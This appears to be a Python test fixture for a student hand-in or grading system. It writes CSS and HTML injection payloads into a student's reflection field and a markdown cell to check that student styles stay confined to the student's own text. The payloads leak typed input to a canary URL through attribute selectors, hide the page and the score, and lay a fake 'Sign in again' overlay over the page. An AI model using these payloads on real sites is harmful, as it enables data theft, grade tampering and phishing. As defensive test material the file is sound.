"""Writes styles that cover the page with a link, fake a grade, or send what is typed to the attacker.

No style of the student's may reach beyond his own text.
"""

from pathlib import Path

from kit import Release, Scene, add_cell, type_in, write

family = "browser"
safe_on_stock = True

TEXT = """
<style>@import url(@CANARY@); body{display:none} input[value^="4"]{background:url(@CANARY@)} #score{visibility:hidden}</style>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999" id="cover"><a href="@CANARY@" id="clickme">Sign in again</a></div>
<style>@font-face{font-family:x;src:url(@CANARY@)}*{font-family:x}</style>
"""


def hand_in(release: Release, folder: Path, scene: Scene) -> None:
    type_in(release, scene.fill(TEXT), into="a2-reflection")
    add_cell(release, scene.fill(TEXT), "markdown")
    write(release, folder)
